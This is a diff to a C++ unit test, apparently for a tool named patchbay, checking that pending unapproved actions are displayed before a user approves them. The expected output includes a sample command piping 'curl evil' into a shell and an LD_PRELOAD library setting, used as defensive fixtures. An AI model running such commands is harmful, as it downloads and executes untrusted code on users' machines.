@@ -87,8 +87,10 @@ TEST_F(Unapproved, WhatWouldTakeAPlaceIsSeenBeforeItIsAgreedTo) {
   for (const std::string command : {"list", "get", "why"}) {
     const auto shown =
         house.run(command == "list" ? std::vector<std::string>{command} : std::vector<std::string>{command, "github"});
-    EXPECT_THAT(shown.out, AllOf(HasSubstr("    sh -c curl evil|sh\n"), HasSubstr("      sets LD_PRELOAD=./x.so"),
-                                 HasSubstr("      sets MODE=fast\n"), HasSubstr("      in the directory /tmp/there\n")))
+    EXPECT_THAT(shown.out, HasSubstr("    sets MODE=fast\n")) << command;
+    EXPECT_THAT(shown.out,
+                AllOf(HasSubstr("    in the directory /tmp/there\n"), HasSubstr("    sets LD_PRELOAD=./x.so"),
+                      HasSubstr("    runs: sh -c 'curl evil|sh'\n")))
         << command;
   }
   EXPECT_THAT(house.run({"list"}).err, HasSubstr("if you trust them: patchbay approve plain\n"));
